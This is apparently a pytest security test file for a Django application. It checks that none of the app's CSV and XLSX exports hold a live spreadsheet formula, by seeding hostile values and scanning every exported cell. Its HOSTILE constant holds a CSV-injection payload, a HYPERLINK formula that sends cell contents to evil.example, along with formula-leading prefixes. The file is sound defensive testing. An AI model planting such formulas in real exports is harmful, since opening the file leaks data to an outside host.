"""No cell of any CSV or XLSX the application writes is a live formula (OWASP "CSV injection").

The demo network is loaded, then every free text that reaches an export (organisation, area,
programme, structure and service names and codes, referring bodies, outcomes, person codes) is made
hostile; every export is downloaded as the lead entity's coordinator and every cell is read back.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from approdi.core.spreadsheets import FORMULA_START, neutralise
from tests.builders import verified_client

pytestmark = pytest.mark.security

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"', "+", "-", "@", "\t", "\r")


def dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START) and neutralise(value) != value


def csv_offenders(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if dangerous(cell)]


def xlsx_offenders(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [str(c.value) for c in row if c.data_type == "f" or dangerous(c.value)]
    return found


def offenders(content: bytes, fmt: str) -> list[str]:
    return xlsx_offenders(content) if fmt == "xlsx" else csv_offenders(content)


def test_neutralise_quotes_formulas_and_leaves_numbers_alone():
    assert neutralise('=HYPERLINK("http://x","RB")') == '\'=HYPERLINK("http://x","RB")'
    assert [neutralise(v) for v in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [neutralise(v) for v in ("-12", "+3.5", "-0.25", "1e5", -7, 2.5, "Caritas", "", None)] == [
        "-12",
        "+3.5",
        "-0.25",
        "1e5",
        -7,
        2.5,
        "Caritas",
        "",
        None,
    ]


def _make_hostile() -> None:
    from approdi.cases.models import ServiceType
    from approdi.network.models import Area, Organisation, Programme
    from approdi.outreach.models import Contact, Referral
    from approdi.people.models import Person
    from approdi.shelter.models import Structure

    fields = {
        Organisation: ("name",),
        Area: ("name",),
        Programme: ("name", "funder"),
        Structure: ("name", "code"),
        ServiceType: ("name", "unit"),
        Referral: ("referring_body", "outcome", "person_code"),
        Contact: ("person_code",),
        Person: ("code",),
    }
    n = 0
    with scopes_disabled():
        for model, names in fields.items():
            for name in names:
                limit = model._meta.get_field(name).max_length or 10_000
                # Short fields (codes) get a one-character prefix, so that unique codes stay unique.
                prefix = HOSTILE[0] if limit >= 100 and n % 2 == 0 else HOSTILE[1 + n % (len(HOSTILE) - 1)]
                n += 1
                hostile = Concat(Value(prefix), Left(F(name), limit - len(prefix)))
                model.objects.exclude(**{name: ""}).update(**{name: hostile})


def _client(username: str, programme: str = "DA-2017"):
    from approdi.accounts.models import Membership, User

    user = User.objects.get(username=username)
    client = verified_client(user)
    session = client.session
    session["approdi_membership_id"] = Membership.objects.get(user=user, programme__code=programme).pk
    session.save()
    return client


def _downloads() -> list[tuple[str, str, bytes]]:
    """(what, format, content) of every export of the application, each by a role that may take it."""
    from approdi.reports.models import ExportJob, FunderReport

    coordinator, filtro, street = _client("coordinatrice"), _client("filtro"), _client("strada")
    services = _client("coordinatrice", "DA-2023")  # the demo's services are in DA-2023
    got = []

    def get(client, what, fmt, url, params=None):
        answer = client.get(url, params or {})
        assert answer.status_code == 200, (what, fmt, answer.status_code)
        got.append((what, fmt, answer.content))

    period = {"start": "2017-12-01", "end": "2019-02-28"}
    for fmt in ("csv", "xlsx"):
        get(street, "outreach contacts", fmt, reverse("outreach:export", args=["contacts", fmt]))
        get(filtro, "outreach referrals", fmt, reverse("outreach:export", args=["referrals", fmt]))
        get(coordinator, "summary", fmt, reverse("reports:summary"), {**period, "format": fmt})
        get(coordinator, "dashboard", fmt, reverse("reports:dashboard"), {**period, "format": fmt})
        get(services, "services", fmt, reverse("reports:reimbursement"), {"format": fmt})
        get(coordinator, "publication", fmt, reverse("reports:publication"), {**period, "format": fmt})
        get(coordinator, "htcds", fmt, reverse("reports:htcds"), {**period, "format": fmt})
    get(filtro, "entry and exit records", "csv", reverse("intake:records_export"))
    coordinator.post(reverse("reports:funder_prepare"), period)
    with scopes_disabled():
        report = FunderReport.objects.latest("pk")
    for fmt in ("csv", "xlsx"):
        get(coordinator, "funder report", fmt, reverse("reports:funder_file", args=[report.pk, fmt]))
    background = (
        (street, ExportJob.Kind.CONTACTS),
        (filtro, ExportJob.Kind.REFERRALS),
        (coordinator, ExportJob.Kind.SUMMARY),
    )
    for client, kind in background:
        for fmt in ("csv", "xlsx"):
            client.post(reverse("reports:job_create"), {"kind": kind, "fmt": fmt, **period})
            with scopes_disabled():
                job = ExportJob.objects.latest("pk")
            assert job.status == ExportJob.Status.DONE, (kind, fmt, job.status)
            get(client, f"background {kind}", fmt, reverse("reports:job_download", args=[job.pk]))
    return got


@pytest.mark.django_db
def test_no_export_holds_a_live_formula(settings_sync_exports):
    call_command("load_demo", "--quiet")
    _make_hostile()
    hostile_seen = set()
    for what, fmt, content in _downloads():
        assert not offenders(content, fmt), (what, fmt, offenders(content, fmt)[:5])
        if b"'=HYPERLINK" in content or b"&apos;=HYPERLINK" in content or b"'+" in content:
            hostile_seen.add(what)
    # The scan proves something only if the hostile values reached the exports that print names.
    assert {"outreach referrals", "services", "dashboard"} <= hostile_seen, hostile_seen


@pytest.fixture
def settings_sync_exports(settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


def test_only_the_safe_writers_build_csv_or_xlsx():
    """A new export cannot bypass ``approdi.core.spreadsheets``: nothing else builds a writer or a workbook."""
    root = Path(settings.BASE_DIR) / "approdi"
    offending = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            from_openpyxl = isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
            imported = node.names if from_openpyxl else []
            if any(alias.name == "Workbook" for alias in imported):
                offending.append(f"{path}: imports openpyxl.Workbook")
            writer = isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
            if writer and isinstance(node.value, ast.Name) and node.value.id in {"csv", "csvlib"}:
                offending.append(f"{path}:{node.lineno}: csv.{node.attr}")
    assert not offending, offending
